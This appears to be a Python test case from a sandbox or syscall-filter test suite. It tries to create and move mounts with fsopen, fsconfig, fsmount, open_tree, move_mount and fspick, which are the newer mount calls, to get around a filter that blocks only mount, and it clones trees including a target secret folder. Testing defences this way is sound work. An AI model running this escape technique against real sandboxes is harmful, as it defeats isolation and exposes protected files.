# attack: Makes and moves mounts with the newer calls: fsopen, fsconfig, fsmount, open_tree, move_mount, fspick.
# hurts: Gets past a filter that knows only mount.
# never: a file system|a tree|moved|picked
# ends: returns
import os

from _raw import AT_FDCWD, attempt, call

CLONE, RECURSIVE, CREATE = 1, 0x8000, 6


def attack(target):
    tried = []
    os.makedirs("place", exist_ok=True)
    for kind in ("tmpfs", "proc", "sysfs", "mqueue"):
        context, error = call("fsopen", kind, 0)
        tried.append(f"fsopen: {error or 'a file system, not yet made'}")
        if not error:
            call("fsconfig", context, CREATE, None, None, 0)
            tried += placed("fsmount", *call("fsmount", context, 0, 0))
    for path in ("/", "/usr", target["secret_folder"], "."):
        tried += placed("open_tree", *call("open_tree", AT_FDCWD, path, CLONE | RECURSIVE))
        context, error = call("fspick", AT_FDCWD, path, 0)
        tried.append(f"fspick: {error or 'picked'}")
        _, error = call("move_mount", AT_FDCWD, path, AT_FDCWD, "place", 0)
        tried.append(f"move_mount: {error or 'moved'}")
    return tried


def placed(name, descriptor, error):
    if error:
        return [f"{name}: {error}"]
    seen = attempt("seen", os.listdir, descriptor)
    _, error = call("move_mount", descriptor, "", AT_FDCWD, "place", 4)
    if not error:
        call("umount2", "place", 2)
    os.close(descriptor)
    return [f"{name}: a tree, {seen}, {error or 'moved'}"]
